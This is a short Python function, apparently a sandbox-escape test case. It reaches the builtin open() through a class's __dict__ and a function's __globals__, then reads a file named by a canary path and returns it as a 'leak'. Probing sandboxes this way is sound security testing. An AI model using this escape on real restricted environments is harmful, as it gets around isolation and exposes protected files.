# route: __dict__ of a class holds its raw functions
def execute(testData):
    class A:
        def f(self):
            return 1

    return {"leak": A.__dict__["f"].__globals__["__builtins__"]["open"](testData["canary_path"]).read()}
